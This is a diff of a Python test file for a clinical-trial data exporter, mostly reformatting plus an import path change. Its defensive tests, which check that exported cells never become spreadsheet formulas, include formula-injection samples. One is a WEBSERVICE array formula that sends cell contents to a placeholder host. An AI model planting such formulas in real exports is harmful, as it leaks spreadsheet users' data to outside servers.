@@ -14,8 +14,16 @@ import duckdb
 import openpyxl
 import pytest
 
+from extractor.apps.export import (
+    Destination,
+    Format,
+    choose_tables,
+    excel,
+    export_run,
+    list_tables,
+    neutralise,
+)
 from extractor.errors import StoreError
-from extractor.results.export import Destination, Format, choose_tables, excel, export_run, list_tables, neutralise
 
 from .samples import SMALL
 
@@ -24,7 +32,10 @@ from .samples import SMALL
 def run(tmp_path):
     folder = tmp_path / "a run [1]"
     folder.mkdir()
-    lines = [SMALL.model_copy(update={"record_id": f"NCT9000000{n}"}).model_dump_json() + "\n" for n in range(1, 4)]
+    lines = [
+        SMALL.model_copy(update={"record_id": f"NCT9000000{n}"}).model_dump_json() + "\n"
+        for n in range(1, 4)
+    ]
     (folder / "extractions.jsonl").write_text("".join(lines), "utf-8")
     return folder
 
@@ -44,10 +55,15 @@ def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
         for table in list_tables():
             (rows,) = database.execute(f"SELECT count(*) FROM {table.name}").fetchone()
             assert rows == counts[table.name]
-        kinds = dict(database.execute("SELECT column_name, data_type FROM duckdb_columns()").fetchall())
+        kinds = dict(
+            database.execute("SELECT column_name, data_type FROM duckdb_columns()").fetchall()
+        )
         names = ("value", "criterion_index", "healthy_volunteers")
         assert [kinds[name] for name in names] == ["DOUBLE", "BIGINT", "BOOLEAN"]
-        said = "SELECT comment FROM duckdb_columns() WHERE table_name = 'evidence' AND column_name = 'quote'"
+        said = (
+            "SELECT comment FROM duckdb_columns() WHERE table_name = 'evidence' AND "
+            "column_name = 'quote'"
+        )
         assert database.execute(said).fetchone() == ("The characters themselves.",)
         ids = database.execute("SELECT record_id FROM records").fetchall()
     assert ids == [("NCT90000001",), ("NCT90000002",), ("NCT90000003",)]
@@ -58,14 +74,36 @@ def test_all_formats_hold_the_same(run, tmp_path):
         export(run, tmp_path / format_, format_)
     lines = (tmp_path / "jsonl" / "constraints.jsonl").read_text("utf-8").splitlines()
     plain = [tuple(json.loads(line).values()) for line in lines]
-    columnar = duckdb.sql(f"SELECT * FROM read_parquet('{tmp_path}/parquet/constraints.parquet')").fetchall()
-    cells = [tuple(cell or None for cell in row.values()) for row in read_csv(tmp_path / "csv" / "constraints.csv")]
+    columnar = duckdb.sql(
+        f"SELECT * FROM read_parquet('{tmp_path}/parquet/constraints.parquet')"
+    ).fetchall()
+    cells = [
+        tuple(cell or None for cell in row.values())
+        for row in read_csv(tmp_path / "csv" / "constraints.csv")
+    ]
     assert columnar == plain
     words = {None: None, True: "true", False: "false"}
-    assert cells == [tuple(words[c] if c is None or isinstance(c, bool) else str(c) for c in row) for row in plain]
+    assert cells == [
+        tuple(words[c] if c is None or isinstance(c, bool) else str(c) for c in row)
+        for row in plain
+    ]
     assert len(plain) == 6
-    assert plain[1][9:-3] == ("ecog_performance_status", False, "89247-1", "{score}", "{score}", 0, 2, None, "between")
-    assert plain[1][-3:] == (None, None, None)  # it holds for all, and these values have no evidence
+    assert plain[1][9:-3] == (
+        "ecog_performance_status",
+        False,
+        "89247-1",
+        "{score}",
+        "{score}",
+        0,
+        2,
+        None,
+        "between",
+    )
+    assert plain[1][-3:] == (
+        None,
+        None,
+        None,
+    )  # it holds for all, and these values have no evidence
     described = json.loads((tmp_path / "csv" / "tables.json").read_text("utf-8"))
     assert described["constraints"]["keys"] == ["record_id", "criterion_index", "constraint_index"]
 
@@ -87,13 +125,19 @@ def test_no_program_reads_a_text_as_a_formula(text):
     safe = neutralise(text)
     assert safe.replace("'", "") == text.replace("'", "")
     for separator in (";", "\t"):
-        for row in csv.reader(safe.splitlines() or [""], delimiter=separator, quoting=csv.QUOTE_NONE):
+        for row in csv.reader(
+            safe.splitlines() or [""], delimiter=separator, quoting=csv.QUOTE_NONE
+        ):
             for cell in row:
-                assert not cell.strip(' "\t\r\n').startswith(tuple("=+-@＝＋－＠")), (separator, cell)
+                assert not cell.strip(' "\t\r\n').startswith(tuple("=+-@＝＋－＠")), (
+                    separator,
+                    cell,
+                )
 
 
 @pytest.mark.parametrize(
-    "text", ["18-65 years", "ECOG 0-2", "> 3 x ULN", "a = b", "day -7, -5 and -3", "IL-2", "", "β-lactam"]
+    "text",
+    ["18-65 years", "ECOG 0-2", "> 3 x ULN", "a = b", "day -7, -5 and -3", "IL-2", "", "β-lactam"],
 )
 def test_other_texts_do_not_change(text):
     assert neutralise(text) == text
@@ -102,17 +146,25 @@ def test_other_texts_do_not_change(text):
 def test_csv_is_safe_in_a_spreadsheet_and_marked_as_utf8_on_demand(run, tmp_path):
     for name, bom in (("first", False), ("second", False), ("marked", True)):
         export(run, tmp_path / name, Format.CSV, bom=bom)
-    assert read_csv(tmp_path / "first" / "constraints.csv")[0]["value"] == "-2.5"  # a number stays one
+    assert (
+        read_csv(tmp_path / "first" / "constraints.csv")[0]["value"] == "-2.5"
+    )  # a number stays one
     assert read_csv(tmp_path / "first" / "criteria.csv")[0]["quote"] == "'=HYPERLINK(1)"
     assert read_csv(tmp_path / "first" / "endpoints.csv")[0]["measure"] == "Pain\nat rest"
     for path in (tmp_path / "first").iterdir():
         assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes()
     assert (tmp_path / "marked" / "records.csv").read_bytes().startswith(b"\xef\xbb\xbfrecord_id,")
-    assert read_csv(tmp_path / "marked" / "records.csv", "utf-8-sig")[0]["record_id"] == "NCT90000001"
+    assert (
+        read_csv(tmp_path / "marked" / "records.csv", "utf-8-sig")[0]["record_id"] == "NCT90000001"
+    )
 
 
-@pytest.mark.parametrize(("name", "format_"), [("t.duckdb", None), ("t", Format.CSV), ("t", Format.PARQUET)])
-def test_an_earlier_export_is_replaced_only_on_demand_and_kept_by_a_failure(run, tmp_path, name, format_):
+@pytest.mark.parametrize(
+    ("name", "format_"), [("t.duckdb", None), ("t", Format.CSV), ("t", Format.PARQUET)]
+)
+def test_an_earlier_export_is_replaced_only_on_demand_and_kept_by_a_failure(
+    run, tmp_path, name, format_
+):
     to = tmp_path / name
     export(run, to, format_)
     with pytest.raises(StoreError, match="--force"):
@@ -140,7 +192,11 @@ def test_a_folder_of_other_files_is_never_replaced(run, tmp_path):
 
 @pytest.mark.parametrize(
     ("name", "format_", "message"),
-    [("t", None, "say --format"), ("t", Format.DUCKDB, "one file"), ("t.csv", Format.PARQUET, "named as csv")],
+    [
+        ("t", None, "say --format"),
+        ("t", Format.DUCKDB, "one file"),
+        ("t.csv", Format.PARQUET, "named as csv"),
+    ],
 )
 def test_a_path_and_a_format_must_fit(tmp_path, name, format_, message):
     with pytest.raises(ValueError, match=message):
@@ -153,10 +209,15 @@ def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
     gold = tmp_path / "gold"
     gold.mkdir()
     for number in (2, 1):
-        annotated = SMALL.model_copy(update={"record_id": f"NCT9000000{number}"}).model_dump(mode="json")
+        annotated = SMALL.model_copy(update={"record_id": f"NCT9000000{number}"}).model_dump(
+            mode="json"
+        )
         (gold / f"NCT9000000{number}.json").write_text(json.dumps(annotated, indent=1), "utf-8")
     assert export(gold, tmp_path / "t", Format.CSV)["records"] == 2
-    assert [row["record_id"] for row in read_csv(tmp_path / "t" / "records.csv")] == ["NCT90000001", "NCT90000002"]
+    assert [row["record_id"] for row in read_csv(tmp_path / "t" / "records.csv")] == [
+        "NCT90000001",
+        "NCT90000002",
+    ]
     assert export(gold / "NCT90000001.json", tmp_path / "one", Format.CSV)["records"] == 1
     (gold / "NCT90000003.json").write_text("{", "utf-8")
     with pytest.raises(StoreError, match=r"NCT90000003\.json: is broken; correct it"):
@@ -182,22 +243,41 @@ ARRAYS = ['{=WEBSERVICE("http://a.b/"&A1)}', "{=1+1}", "{=1", "{}", "internal:A1
 @pytest.mark.parametrize("text", [*FORMULAS, *WITHIN, *ARRAYS, "http://a.b", "12", "nan", "TRUE"])
 def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path):
     table = choose_tables([], ["custom_values"])[0]
-    (tmp_path / "rows").write_text(json.dumps({column.name: text for column in table.columns}) + "\n", "utf-8")
+    (tmp_path / "rows").write_text(
+        json.dumps({column.name: text for column in table.columns}) + "\n", "utf-8"
+    )
     excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})
     cell = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]["A2"]
-    assert (cell.value.replace("_x000D_", "\r"), cell.data_type, cell.hyperlink) == (text, "s", None)
+    assert (cell.value.replace("_x000D_", "\r"), cell.data_type, cell.hyperlink) == (
+        text,
+        "s",
+        None,
+    )
 
 
 @pytest.fixture(scope="module")
 def oldest_library(tmp_path_factory):
-    """The folder of the oldest XlsxWriter that the extra ``excel`` allows; None if it is the installed one."""
-    extras = tomllib.loads(Path("pyproject.toml").read_text("utf-8"))["project"]["optional-dependencies"]
+    """The folder of the oldest XlsxWriter that the extra ``excel`` allows; None if it is the
+    installed one.
+    """
+    extras = tomllib.loads(Path("pyproject.toml").read_text("utf-8"))["project"][
+        "optional-dependencies"
+    ]
     [needed] = extras["excel"]
     oldest = needed.removeprefix("xlsxwriter>=")
     if version("xlsxwriter") == oldest:
         return None
     folder = tmp_path_factory.mktemp("oldest")
-    words = ("-m", "pip", "install", "--quiet", "--no-deps", "--target", folder, f"xlsxwriter=={oldest}")
+    words = (
+        "-m",
+        "pip",
+        "install",
+        "--quiet",
+        "--no-deps",
+        "--target",
+        folder,
+        f"xlsxwriter=={oldest}",
+    )
     if subprocess.run([sys.executable, *words], capture_output=True, check=False).returncode:
         pytest.skip(f"no registry has XlsxWriter {oldest}")
     return folder
@@ -208,18 +288,27 @@ def test_the_oldest_library_that_is_allowed_writes_no_formula_either(run, tmp_pa
     quoted = json.dumps(ARRAYS[0])[1:-1]
     (run / "extractions.jsonl").write_text(lines.replace("NCT90000001", quoted), "utf-8")
     code = (
-        "import sys; from pathlib import Path; from extractor.results.export import Destination, Format, export_run;"
+        "import sys; from pathlib import Path; from extractor.apps.export import Destination, "
+        "Format, export_run;"
         "export_run(Path(sys.argv[1]), Destination.choose(Path(sys.argv[2]), Format.XLSX))"
     )
     path = {"PYTHONPATH": os.pathsep.join(filter(None, [str(oldest_library or ""), *sys.path]))}
-    subprocess.run([sys.executable, "-c", code, run, tmp_path / "a.xlsx"], env=os.environ | path, check=True)
+    subprocess.run(
+        [sys.executable, "-c", code, run, tmp_path / "a.xlsx"], env=os.environ | path, check=True
+    )
 
     book = openpyxl.load_workbook(tmp_path / "a.xlsx")
 
     assert book["records"]["A2"].value == ARRAYS[0]
-    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n", "b"}
+    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {
+        "s",
+        "n",
+        "b",
+    }
     with zipfile.ZipFile(tmp_path / "a.xlsx") as parts:
-        assert not [name for name in parts.namelist() if "sheets" in name and b"<f" in parts.read(name)]
+        assert not [
+            name for name in parts.namelist() if "sheets" in name and b"<f" in parts.read(name)
+        ]
 
 
 def test_the_library_never_guesses_what_a_cell_is(run, tmp_path, monkeypatch):
